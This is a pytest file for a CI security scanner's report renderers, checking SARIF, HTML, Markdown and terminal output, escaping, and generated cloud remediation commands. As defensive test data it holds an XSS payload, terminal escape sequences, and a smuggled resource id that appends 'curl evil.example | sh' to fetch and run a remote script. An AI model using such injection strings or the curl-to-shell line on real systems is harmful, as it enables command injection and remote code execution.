"""Renderers of the findings document: JSON, SARIF, Markdown, HTML and the terminal table."""

from __future__ import annotations

import json
import re
from html.parser import HTMLParser

import jsonschema
import pytest
from markdown_it import MarkdownIt
from test_reports_support import FINDINGS_SCHEMA, SARIF_SCHEMA, large_document, load
from rich.console import Console

from guardrails.reports import RENDERERS, OutputFormat, render
from guardrails.reports.remediation import GUIDES, steps_for
from guardrails.reports.table import print_table
from guardrails.reports.text import clean, md_cell, mermaid_label

CHECK_IDS = {
    "ci-internet-exposed", "ci-firewall-allows-internet", "ci-internet-gateway-segment",
    "ci-not-behind-load-balancer", "ci-reaches-production", "ci-admin-identity",
    "ci-privilege-escalation", "ci-production-access", "ci-internet-to-admin-path", "ci-imds-v1",
    "ci-secret-in-user-data", "ci-long-lived-runner", "ci-federation-unscoped", "ci-stored-credential",
}
HOSTILE_MARKERS = ("<script>alert(1)</script>", "\x1b[31m", "\x1b]8;;")


@pytest.fixture(scope="module")
def sample() -> dict:
    return load("sample")


@pytest.fixture(scope="module")
def hostile() -> dict:
    return load("hostile")


def finding(document: dict, check_id: str, resource_prefix: str) -> dict:
    return next(f for f in document["findings"] if f["check_id"] == check_id and f["resource"]["id"].startswith(resource_prefix))


# --- the sample documents ---------------------------------------------------------------------

@pytest.mark.parametrize("name", ["sample", "hostile"])
def test_fixture_documents_follow_the_findings_schema(name):
    schema = json.loads(FINDINGS_SCHEMA.read_text())
    jsonschema.Draft202012Validator(schema).validate(load(name))


def test_sample_exercises_every_check_both_sources_suppressions_and_gaps(sample):
    assert {f["check_id"] for f in sample["findings"]} == CHECK_IDS == set(GUIDES)
    assert {s["provider"] for s in sample["scan"]["sources"]} == {"aws", "terraform"}
    assert any(f["status"] == "suppressed" for f in sample["findings"])
    assert sample["coverage"]["gaps"]
    path = finding(sample, "ci-internet-to-admin-path", "i-")["evidence"]["path"]
    assert len(path) >= 6 and path[0]["kind"] == "internet" and path[-1]["kind"] == "account"


def test_hostile_document_carries_every_breaker(hostile):
    names = [f["resource"]["name"] for f in hostile["findings"]]
    for marker in ("<script>alert(1)</script>", "|", "`", "\n", "-->", '"', "\x1b[31m", "["):
        assert all(marker in name for name in names), marker


# --- registry and JSON ------------------------------------------------------------------------

def test_renderers_cover_every_output_format(sample):
    assert set(RENDERERS) == {f.value for f in OutputFormat} - {"table"} == {"json", "sarif", "markdown", "html"}
    assert render(sample, "html") == render(sample, OutputFormat.html)
    with pytest.raises(ValueError, match="unknown report format 'pdf'"):
        render(sample, "pdf")


def test_json_keeps_the_document_and_its_order(sample):
    text = render(sample, "json")
    assert text.endswith("}\n")
    assert json.loads(text) == sample
    assert list(json.loads(text)) == list(sample)
    assert text == json.dumps(sample, indent=2, ensure_ascii=False) + "\n"


# --- SARIF ------------------------------------------------------------------------------------

def sarif_schema() -> dict:
    return json.loads(SARIF_SCHEMA.read_text(encoding="utf-8"))


@pytest.mark.parametrize("name", ["sample", "hostile"])
def test_sarif_validates_against_the_official_schema(name):
    schema = sarif_schema()
    log = json.loads(render(load(name), "sarif"))
    jsonschema.validators.validator_for(schema)(schema).validate(log)


def test_sarif_rules_results_and_fingerprints_match_the_findings(sample):
    run = json.loads(render(sample, "sarif"))["runs"][0]
    driver = run["tool"]["driver"]
    assert driver["name"] == "pipeline-guardrails" and driver["version"] == sample["tool"]["version"]
    assert [r["id"] for r in driver["rules"]] == sorted({f["check_id"] for f in sample["findings"]})
    assert len(run["results"]) == len(sample["findings"])
    assert [r["partialFingerprints"]["guardrailsFindingId/v1"] for r in run["results"]] == [f["id"] for f in sample["findings"]]
    for result, source in zip(run["results"], sample["findings"]):
        assert result["ruleId"] == source["check_id"]
        assert driver["rules"][result["ruleIndex"]]["id"] == source["check_id"]
        assert result["message"]["text"] == source["message"]
        assert result["level"] == {"critical": "error", "high": "error", "medium": "warning", "low": "note"}[source["severity"]]
        assert ("suppressions" in result) == (source["status"] == "suppressed")
        # GitHub displays only results with a physical location
        assert result["locations"][0]["physicalLocation"]["artifactLocation"]["uri"]
    rules = {r["id"]: r for r in driver["rules"]}
    assert rules["ci-internet-to-admin-path"]["properties"]["security-severity"] == "9.5"
    assert rules["ci-imds-v1"]["properties"]["security-severity"] == "8.0"  # worst of high and medium
    assert rules["ci-internet-gateway-segment"]["properties"]["security-severity"] == "5.5"
    assert rules["ci-long-lived-runner"]["properties"]["security-severity"] == "3.0"
    assert "CICD-SEC-7" in rules["ci-internet-exposed"]["properties"]["tags"]
    assert rules["ci-imds-v1"]["shortDescription"]["text"] == "Instance metadata accepts IMDSv1"
    assert "IMDSv2" in rules["ci-imds-v1"]["help"]["text"] and "```hcl" in rules["ci-imds-v1"]["help"]["markdown"]
    suppressed = [r for r in run["results"] if "suppressions" in r]
    assert [r["suppressions"][0]["justification"] for r in suppressed] == [
        f["suppression"]["reason"] for f in sample["findings"] if f["status"] == "suppressed"
    ]
    gaps = run["invocations"][0]["toolExecutionNotifications"]
    assert len(gaps) == 2 and "codebuild_projects" in gaps[0]["message"]["text"]


def test_sarif_locations_for_terraform_and_cloud_findings(sample):
    results = json.loads(render(sample, "sarif"))["runs"][0]["results"]
    by_key = {(r["ruleId"], r["locations"][0]["logicalLocations"][0]["fullyQualifiedName"]): r for r in results}

    terraform = by_key[("ci-secret-in-user-data", "module.ci[0].aws_instance.runner")]
    physical = terraform["locations"][0]["physicalLocation"]
    assert physical["artifactLocation"] == {"uri": "infra/ci/modules/runner/main.tf"}
    assert physical["region"] == {"startLine": 12, "endLine": 41}
    assert terraform["relatedLocations"][0]["physicalLocation"]["artifactLocation"]["uri"] == "infra/ci/plan.json"

    cloud = by_key[("ci-imds-v1", "i-0a1b2c3d4e5f60718")]
    artifact = cloud["locations"][0]["physicalLocation"]["artifactLocation"]
    assert artifact == {"uri": "aws/111122223333/eu-west-1/i-0a1b2c3d4e5f60718", "uriBaseId": "ESTATE"}
    assert cloud["locations"][0]["logicalLocations"][0]["kind"] == "resource"

    codebuild = dict(sample["findings"][0], resource={
        "id": "arn:aws:codebuild:eu-west-1:111122223333:project/build-app", "kind": "compute",
        "name": "build-app", "provider": "aws", "account": "111122223333", "region": "eu-west-1"})
    result = json.loads(render(dict(sample, findings=[codebuild]), "sarif"))["runs"][0]["results"][0]
    uri = result["locations"][0]["physicalLocation"]["artifactLocation"]["uri"]
    assert uri == "aws/111122223333/eu-west-1/arn:aws:codebuild:eu-west-1:111122223333:project%2Fbuild-app"


def test_sarif_terraform_finding_without_source_location_points_at_the_plan(sample, tmp_path):
    item = finding(sample, "ci-internet-exposed", "module.")
    resource = {k: v for k, v in item["resource"].items() if k != "source_location"}
    plan = tmp_path / "envs" / "prod" / "plan.json"
    document = dict(sample, findings=[dict(item, resource=resource)],
                    scan=dict(sample["scan"], sources=[{"provider": "terraform", "scope": str(plan)}]))
    from guardrails.reports.sarif import render_sarif

    result = json.loads(render_sarif(document, base_dir=tmp_path))["runs"][0]["results"][0]
    location = result["locations"][0]
    assert location["physicalLocation"]["artifactLocation"]["uri"] == "envs/prod/plan.json"
    assert location["logicalLocations"][0]["fullyQualifiedName"] == "module.ci[0].aws_instance.runner"
    assert "region" not in location["physicalLocation"]


def test_sarif_strips_terminal_escapes(hostile):
    text = render(hostile, "sarif")
    assert "\x1b" not in json.loads(text).__repr__() and "\\u001b" not in text


# --- HTML -------------------------------------------------------------------------------------

class Elements(HTMLParser):
    def __init__(self) -> None:
        super().__init__()
        self.tags: list[tuple[str, dict]] = []

    def handle_starttag(self, tag, attrs):
        self.tags.append((tag, dict(attrs)))


def elements(html: str) -> list[tuple[str, dict]]:
    parser = Elements()
    parser.feed(html)
    return parser.tags


EXTERNAL = re.compile(r"^\s*(?:[a-z][a-z0-9+.-]*:)?//|^\s*(?:https?|ftp|file|javascript):", re.I)


@pytest.mark.parametrize("name", ["sample", "hostile"])
def test_html_is_self_contained_and_escaped(name):
    document = load(name)
    html = render(document, "html")
    tags = elements(html)
    assert "<script>alert" not in html and "\x1b" not in html
    assert [t for t, _ in tags].count("script") == 1  # the report's own filter script
    assert not any(t in ("img", "iframe", "object", "embed") for t, _ in tags)
    for tag, attrs in tags:
        for attr in ("src", "href", "action", "data", "xlink:href"):
            if attrs.get(attr):
                assert not EXTERNAL.match(attrs[attr]), (tag, attr, attrs[attr])
        assert not any(key.startswith("on") for key in attrs), (tag, attrs)
    csp = next(a["content"] for t, a in tags if t == "meta" and a.get("http-equiv") == "Content-Security-Policy")
    assert "default-src 'none'" in csp and "img-src data:" in csp
    assert '<svg class="attack-path"' in html
    assert 'id="findings-table"' in html
    rows = [a for t, a in tags if t == "tr" and "data-severity" in a]
    assert len(rows) == len(document["findings"])
    assert sum(1 for a in rows if a.get("data-status") == "suppressed") == 2


def test_html_report_contents(sample):
    html = render(sample, "html")
    # executive summary: inventory with the classification reason, sources and gaps
    assert "name contains &#39;jenkins&#39;" in html and "CodeBuild project in a VPC" in html
    assert "infra/ci/plan.json" in html and "AccessDeniedException" in html
    # attack paths first: the internet-to-admin path leads
    attack = html.index('id="attack-paths"')
    first = html.index("<details class=\"attack\"", attack)
    assert html.index("Internet-to-admin path", first) < html.index("CI node runs as an administrator", first)
    svg = html[html.index("<svg", attack): html.index("</svg>", attack)]
    assert svg.count("<rect") == 8 and svg.count("<line") == 7
    assert "instance profile jenkins-master-profile" in svg  # the via label of a hop
    # per-node remediation with concrete commands
    assert "aws ec2 modify-instance-metadata-options --instance-id i-0a1b2c3d4e5f60718 --http-tokens required" in html
    assert "http_tokens                 = &#34;required&#34;" in html
    assert "Docker executor needs hop limit 2" in html
    assert "CICD-SEC-7" in html and "elevation_of_privilege" in html
    nodes = html[html.index('<section id="nodes">'):]
    assert nodes.index("<p>On 3 CI servers/runners, 2 CI identities.</p>") < nodes.index("<details")


def test_html_escapes_inside_svg(hostile):
    html = render(hostile, "html")
    start = html.index("<svg")
    svg = html[start: html.index("</svg>", start)]
    assert "<script" not in svg and "&lt;script&gt;" in svg
    assert {t for t, _ in elements(svg)} <= {"svg", "defs", "marker", "path", "g", "title", "rect", "text", "line"}


# --- Markdown ---------------------------------------------------------------------------------

def unescaped_pipes(line: str) -> int:
    return len(re.findall(r"(?<!\\)(?:\\\\)*\|", line))


def markdown_tables(text: str) -> list[list[str]]:
    tables, current = [], []
    in_fence = False
    for line in text.splitlines():
        if line.startswith("```"):
            in_fence = not in_fence
        if not in_fence and line.startswith("|"):
            current.append(line)
        elif current:
            tables.append(current)
            current = []
    return tables + ([current] if current else [])


@pytest.mark.parametrize("name", ["sample", "hostile"])
def test_markdown_tables_keep_their_columns(name):
    text = render(load(name), "markdown")
    tables = markdown_tables(text)
    assert len(tables) >= 5
    for table in tables:
        assert len({unescaped_pipes(row) for row in table}) == 1, table
    # and a GFM parser agrees: every row has as many cells as the header
    tokens = MarkdownIt("commonmark").enable("table").parse(text)
    html = MarkdownIt("commonmark").enable("table").render(text)
    assert "<script" not in html and "<img" not in html
    cells: list[int] = []
    for token in tokens:
        if token.type == "tr_open":
            cells.append(0)
        elif token.type in ("th_open", "td_open"):
            cells[-1] += 1
        elif token.type == "table_close":
            assert len(set(cells)) == 1, cells
            cells = []


def mermaid_blocks(text: str) -> list[str]:
    return re.findall(r"^```mermaid\n(.*?)\n```$", text, flags=re.S | re.M)


@pytest.mark.parametrize("name", ["sample", "hostile"])
def test_markdown_draws_attack_paths_as_mermaid(name):
    document = load(name)
    text = render(document, "markdown")
    blocks = mermaid_blocks(text)
    admin_path = finding(document, "ci-internet-to-admin-path", "i-")["evidence"]["path"]
    assert len(blocks) == 3  # the admin path, then the two other critical findings with a path
    lines = blocks[0].splitlines()
    assert lines[0] == "flowchart LR"
    nodes = [line for line in lines[1:] if re.fullmatch(r'  n\d+\["[^"`]*"\]', line)]
    edges = [line for line in lines[1:] if re.fullmatch(r'  n\d+ -->(\|"[^"|`]*"\| )?n\d+|  n\d+ --> n\d+', line)]
    assert len(nodes) == len(admin_path) and len(edges) == len(admin_path) - 1
    assert len(nodes) + len(edges) == len(lines) - 1
    assert all("-->" not in line for line in nodes) and all(line.count("-->") == 1 for line in edges)
    labels = re.findall(r'"([^"]*)"', blocks[0])
    assert len(labels) >= len(nodes) and not any(ch in label for label in labels for ch in "<>`|[]\x1b")


def test_markdown_report_contents(sample):
    text = render(sample, "markdown")
    assert text.index("## Executive summary") < text.index("## Attack paths") < text.index("## Findings by CI node")
    assert "| Medium | 3 | 1 |" in text
    # the CI identities, with the trust statement and the sub the remediation pins
    assert "### CI identities" in text and "`repo:acme/<repository>:ref:refs/heads/main`" in text
    assert '"token.actions.githubusercontent.com:sub":"repo:acme/*"' in text
    assert '<table id="ci-identities">' in render(sample, "html")
    assert "CodeBuild project in a VPC" in text and "codebuild\\_projects" in text
    assert "aws ec2 modify-instance-metadata-options --instance-id i-0a1b2c3d4e5f60718 --http-tokens required" in text
    assert "> Suppressed: Docker executor needs hop limit 2 until the migration to Fargate (until 2027-03-31)" in text
    assert "STRIDE elevation\\_of\\_privilege; OWASP CI/CD CICD-SEC-2, CICD-SEC-5" in text
    assert "## Findings by CI node\n\nOn 3 CI servers/runners, 2 CI identities.\n" in text


def test_markdown_hostile_text_is_literal(hostile):
    text = render(hostile, "markdown")
    assert "\x1b" not in text
    html = MarkdownIt("commonmark").enable("table").render(text)
    assert "&lt;script&gt;alert(1)&lt;/script&gt;" in html
    assert 'href="http' not in html and "<a href=\"#finding-" in html


def test_markdown_and_html_without_inventory_list_ci_nodes_from_findings(sample):
    document = {k: v for k, v in sample.items() if k != "inventory"}
    text = render(document, "markdown")
    assert "The document lists no CI inventory" in text
    inventory = text[text.index("### CI inventory"): text.index("### Coverage gaps")]
    assert "`module.ci[0].aws_instance.runner`" in inventory and "build-app" not in inventory
    assert "The document lists no CI inventory" in render(document, "html")


# --- text escaping ----------------------------------------------------------------------------

@pytest.mark.parametrize("raw, expected", [
    ("\x1b[31mred\x1b[0m", "red"),
    ("\x1b]8;;http://x/\x07link\x1b]8;;\x07", "link"),
    ("a\x00b\x07c\x7fd\x85e", "abcde"),
    ("csi\x9b2Jc1", "csic1"),
    ("abc\u202edcba", "abcdcba"),
    ("tab\tand\nnewline", "tab\tand\nnewline"),
])
def test_clean_strips_escape_sequences_and_controls(raw, expected):
    assert clean(raw) == expected


def test_md_cell_and_mermaid_label():
    assert md_cell("a|b\nc") == "a\\|b c"
    assert md_cell("") == " "
    assert mermaid_label('x"] --> y[') == "x#34;#93; --#62; y#91;"


# --- remediation ------------------------------------------------------------------------------

def test_cli_commands_use_the_findings_own_ids(sample):
    imds = steps_for(finding(sample, "ci-imds-v1", "i-0a1b"))
    assert imds.commands == ["aws ec2 modify-instance-metadata-options --instance-id i-0a1b2c3d4e5f60718"
                             " --http-tokens required --http-put-response-hop-limit 1 --http-endpoint enabled"]
    firewall = steps_for(finding(sample, "ci-firewall-allows-internet", "i-0a1b"))
    assert any("--group-id sg-0a1b2c3d4e5f60006" in c for c in firewall.commands)
    segment = steps_for(finding(sample, "ci-internet-gateway-segment", "i-0a1b"))
    assert segment.commands and "--route-table-id rtb-0a1b2c3d4e5f60002" in segment.commands[0]
    admin = steps_for(finding(sample, "ci-admin-identity", "i-0a1b"))
    assert ("aws iam detach-role-policy --role-name jenkins-master-role"
            " --policy-arn arn:aws:iam::aws:policy/AdministratorAccess") in admin.commands
    production = steps_for(finding(sample, "ci-production-access", "i-0fed"))
    assert any("update-assume-role-policy --role-name prod-deploy" in c for c in production.commands)


def test_terraform_resources_get_terraform_but_no_cli(sample):
    steps = steps_for(finding(sample, "ci-secret-in-user-data", "module."))
    assert steps.terraform and "aws_ssm_parameter" in steps.terraform
    assert steps.commands == []


def test_cli_commands_never_carry_estate_text_unquoted(sample):
    item = finding(sample, "ci-imds-v1", "i-0a1b")
    hostile_id = dict(item, resource=dict(item["resource"], id="i-0a1b2c3d4e5f60718; curl evil.example | sh"))
    assert steps_for(hostile_id).commands == []
    role = "arn:aws:iam::111122223333:role/it's"
    admin = finding(sample, "ci-admin-identity", "i-0a1b")
    path = [admin["evidence"]["path"][0], {"id": role, "kind": "identity", "name": "x"}]
    commands = steps_for(dict(admin, evidence=dict(admin["evidence"], path=path))).commands
    assert commands == []  # not a valid role name: no command rather than a guessed one


def test_other_providers_get_only_the_remediation_text(sample):
    item = finding(sample, "ci-admin-identity", "i-0a1b")
    gcp = dict(item, resource=dict(item["resource"], provider="gcp", id="projects/p/zones/z/instances/jenkins"))
    steps = steps_for(gcp)
    assert steps.text == item["remediation"] and steps.terraform is None and steps.commands == []



def test_a_regional_forwarding_rule_is_deleted_in_its_region():
    """A pass-through load balancer (a target pool) has a regional forwarding rule: the command names
    its region, where a proxy's global one says --global."""
    via = ("the listener filters no client: it is open to every address; forwarding rule jenkins-tcp 34.1.2.3:8080 -> "
           "target pool jenkins-pool")
    path = [{"id": "internet", "kind": "internet", "name": "internet"},
            {"id": "projects/acme-ci/regions/us-central1/forwardingRules/jenkins-tcp", "kind": "load_balancer",
             "name": "jenkins-tcp", "via": via}]
    exposed = {"check_id": "ci-internet-exposed", "evidence": {"path": path, "details": {}},
               "resource": {"provider": "gcp", "id": "projects/acme-ci/zones/us-central1-a/instances/jenkins"}}
    (change,) = steps_for(exposed).changes
    assert change.commands == ("gcloud compute forwarding-rules delete jenkins-tcp --region=us-central1 "
                               "--project=acme-ci",)
    assert change.what.startswith("forwarding rule jenkins-tcp 34.1.2.3:8080 -> target pool jenkins-pool")


# --- terminal table ---------------------------------------------------------------------------

def table_output(document: dict) -> tuple[str, str]:
    console = Console(record=True, width=200, force_terminal=True, color_system="truecolor")
    print_table(document, console)
    return console.export_text(styles=False), console.export_text(styles=True)


def test_table_groups_findings_and_summarises(sample):
    plain, _ = table_output(sample)
    assert plain.index("jenkins-master (server)") < plain.index("gitlab-runner-01 (runner)") < plain.index("runner (runner)")
    lines = plain.splitlines()
    # the summary comes first (after the INCOMPLETE banner), the verdict last
    counts = lines.index("16 open findings: 3 critical, 9 high, 3 medium, 1 low (2 suppressed)")
    assert lines[0].startswith("INCOMPLETE") and counts <= 2
    assert lines[counts + 1].startswith("57 resources scanned, 4 CI nodes (2 exposed to the internet), "
                                        "2 CI identities; coverage incomplete (2 gaps")
    # under the findings heading, nodes and identities are counted apart
    assert "Findings on 3 CI servers/runners, 2 CI identities" in lines
    assert counts < plain.index("Attack path (1)")
    assert [line for line in lines if line.strip()][-2].startswith("Verdict: the internet reaches administrator")
    assert "aws/111122223333/us-east-1: codebuild_projects: AccessDeniedException" in plain
    # Messages wrap inside their column; read them with the wrapping undone.
    assert "(suppressed: Docker executor needs hop limit 2 until the migration to Fargate)" in " ".join(plain.split())
    assert any(line.rstrip().endswith("tcp/22, tcp/8080") for line in plain.splitlines())
    assert plain.index("Attack path (1)") < plain.index("jenkins-master (server)")


def test_table_cannot_be_restyled_by_the_estate(hostile):
    plain, styled = table_output(hostile)
    assert "\x1b" not in plain
    assert "[bold]red[/bold]" in plain and "<script>alert(1)</script>" in plain
    # the only escape sequences are the table's own SGR colours: no OSC hyperlinks, no cursor moves
    assert not re.search(r"\x1b(?!\[[0-9;]*m)", styled)
    assert "\x1b[31mRED" not in styled


# --- scale ------------------------------------------------------------------------------------

def test_a_thousand_findings_render_in_every_format():
    document = large_document(1000)
    html = render(document, "html")
    assert html.count('<tr data-severity="') == 1000
    assert '<details id="node-1" class="node">' in html  # collapsed at this size
    assert len(json.loads(render(document, "sarif"))["runs"][0]["results"]) == 1000
    assert render(document, "markdown").count("<a id=\"finding-") == 1000
    plain, _ = table_output(document)
    suppressed = sum(f["status"] == "suppressed" for f in document["findings"])
    assert f"{1000 - suppressed} open findings" in plain and f"({suppressed} suppressed)" in plain
    assert json.loads(render(document, "json")) == document


def test_a_minimal_document_renders_in_every_format():
    document = {
        "schema_version": "1",
        "tool": {"name": "pipeline-guardrails", "version": "0.1.0"},
        "scan": {"id": "s", "started_at": "2026-11-22T10:00:00Z", "finished_at": "2026-11-22T10:00:01Z", "sources": []},
        "summary": {"by_severity": {}, "resources": 0, "ci_nodes": 0},
        "findings": [],
        "coverage": {"resources_by_kind": {}, "gaps": []},
    }
    assert "No findings." in render(document, "html") and "No findings." in render(document, "markdown")
    log = json.loads(render(document, "sarif"))
    assert log["runs"][0]["results"] == [] and log["runs"][0]["tool"]["driver"]["rules"] == []
    plain, _ = table_output(document)
    assert plain.splitlines() == ["0 open findings", "0 resources scanned, 0 CI nodes (0 exposed to the internet); "
                                  "coverage complete", "", "Verdict: no open findings."]


def test_table_of_a_large_result_shows_the_worst_and_says_what_it_leaves_out(sample):
    from guardrails.reports import table

    template = finding(sample, "ci-admin-identity", "i-0a1b")
    path = template["evidence"]["path"]
    findings = []
    for n in range(table.MAX_RESOURCES + 7):
        resource = dict(template["resource"], id=f"i-{n:04d}", name=f"runner-{n:04d}")
        findings.append(dict(template, id=f"f{n}", resource=resource, severity="high" if n % 2 else "medium",
                             check_id="ci-admin-identity"))
    for n in range(table.MAX_ATTACK_PATHS + 3):
        resource = dict(template["resource"], id=f"i-path-{n:02d}", name=f"jenkins-{n:02d}")
        findings.append(dict(template, id=f"p{n}", resource=resource, severity="critical",
                             check_id="ci-internet-to-admin-path", evidence=dict(template["evidence"], path=path)))
    plain, _ = table_output(dict(sample, findings=findings))
    shown = [line for line in plain.splitlines() if line.startswith(("runner-", "jenkins-"))]
    assert len(shown) == table.MAX_RESOURCES
    assert all(line.startswith("jenkins-") for line in shown[:table.MAX_ATTACK_PATHS + 3])  # attack paths first
    assert f"Attack paths ({table.MAX_ATTACK_PATHS + 3})" in plain
    assert "... and 3 more attack paths, not shown here" in plain
    flat = " ".join(plain.split())
    assert f"... and {len(findings) - table.MAX_RESOURCES} more resources with findings, not shown here" in flat
    assert "holds every finding" in flat


def test_sarif_maps_each_rule_to_its_threat_model_taxa(sample):
    import jsonschema

    from guardrails.registry import all_checks

    catalogue = {chk.id: chk for chk in all_checks()}
    for finding in sample["findings"]:  # the sample as the checks write it today
        chk = catalogue[finding["check_id"]]
        finding["references"] = {"stride": list(chk.stride), "owasp_cicd": list(chk.owasp_cicd),
                                 "cis": list(chk.cis), "nist": list(chk.nist)}
    log = json.loads(render(sample, "sarif"))
    jsonschema.validate(log, json.loads(SARIF_SCHEMA.read_text()))
    run = log["runs"][0]
    taxonomies = {t["name"]: t for t in run["taxonomies"]}
    assert set(taxonomies) == {"STRIDE", "OWASP Top 10 CI/CD Security Risks", "CIS Foundations Benchmarks",
                               "NIST SP 800-53 Rev. 5"}
    assert len(taxonomies["STRIDE"]["taxa"]) == 6 and len(taxonomies["OWASP Top 10 CI/CD Security Risks"]["taxa"]) == 10
    assert [t["name"] for t in run["tool"]["driver"]["supportedTaxonomies"]] == [t["name"] for t in run["taxonomies"]]
    for rule in run["tool"]["driver"]["rules"]:
        chk = catalogue[rule["id"]]
        named = {}
        for relationship in rule["relationships"]:
            target = relationship["target"]
            taxonomy = run["taxonomies"][target["toolComponent"]["index"]]
            assert taxonomy["name"] == target["toolComponent"]["name"]
            assert taxonomy["taxa"][target["index"]]["id"] == target["id"]
            named.setdefault(taxonomy["name"], set()).add(target["id"])
        assert named["STRIDE"] == set(chk.stride) and named["OWASP Top 10 CI/CD Security Risks"] == set(chk.owasp_cicd)
        assert named.get("CIS Foundations Benchmarks", set()) == set(chk.cis)
        assert named["NIST SP 800-53 Rev. 5"] == set(chk.nist)


def test_html_groups_open_findings_by_stride_and_reads_details_as_key_values():
    demo = load("demo")
    html = render(demo, "html")
    section = html[html.index('<section id="threat-model">'):html.index('<section id="all-findings">')]
    for category in ("spoofing", "tampering", "repudiation", "information_disclosure", "denial_of_service",
                     "elevation_of_privilege"):
        assert f'id="stride-{category}"' in section
        expected = sum(1 for f in demo["findings"] if f["status"] == "open" and category in f["references"]["stride"])
        group = section[section.index(f'id="stride-{category}"'):]
        group = group[:group.index("</div>")]
        assert group.count('<span class="sev') == expected
    # details as key/value lists, never as a JSON dump
    assert '<dl class="kv details">' in html and "<dt>interfaces[1].public_kind</dt>" in html
    assert '{\n  "' not in html
    # every finding of the demo names its exact change, with its console path
    assert html.count('<ol class="changes">') == len(demo["findings"])
    assert "@media print" in html and "@page" in html


def test_the_gcloud_and_az_check_refuses_a_wrong_command():
    """tests/cloud_commands.py, which the GCP and Azure scenario tests run over every finding, fails
    an option the command does not have, a missing required one, an id the scan did not find, a
    placeholder and an unset shell variable."""
    from cloud_commands import _check_command

    known = "acme-ci allow-ssh jenkins-nsg ci 11111111-1111-1111-1111-111111111111 ssh"
    good = "gcloud compute firewall-rules update allow-ssh --disabled --project=acme-ci"
    assert _check_command(good, known, set()) is None
    assert _check_command("config=$(az network nic ip-config list --resource-group ci --nic-name ssh --output tsv)",
                          known, set()) == "config"
    wrong = ["gcloud compute firewall-rules update allow-ssh --disabled --project=acme-ci --zone=us-east1-b",
             "gcloud compute firewall-rules update allow-ssh --disabled",
             "gcloud compute firewall-rules update allow-http --disabled --project=acme-ci",
             "gcloud compute firewall-rules update allow-ssh --source-ranges=<YOUR-RANGE> --project=acme-ci",
             "az network nsg rule delete --resource-group ci --nsg-name jenkins-nsg --name \"$rule\"",
             "az network nsg rule remove --resource-group ci --nsg-name jenkins-nsg --name ssh",
             "gcloud compute forwarding-rules delete allow-ssh --project=acme-ci",  # neither --global nor --region
             "gcloud compute forwarding-rules delete allow-ssh --global --region=us-east1 --project=acme-ci",
             "az network nic update --resource-group ci --name ssh --network-security-group ssh-nsg"]  # never created
    for command in wrong:
        with pytest.raises(AssertionError):
            _check_command(command, known, set())
    # a name the change creates may be used by its later commands, and by no other change's
    made: set[str] = set()
    _check_command("az network nsg create --resource-group ci --name ssh-nsg", known, set(), made)
    assert _check_command("az network nic update --resource-group ci --name ssh --network-security-group ssh-nsg",
                          known, set(), made) is None
    assert _check_command("az network nsg rule create --resource-group ci --nsg-name ssh-nsg --name deny-ci --priority "
                          "100 --access Deny --source-address-prefixes 10.10.0.0/16 11111111-1111-1111-1111-111111111111",
                          known + " 10.10.0.0/16", set(), made) is None
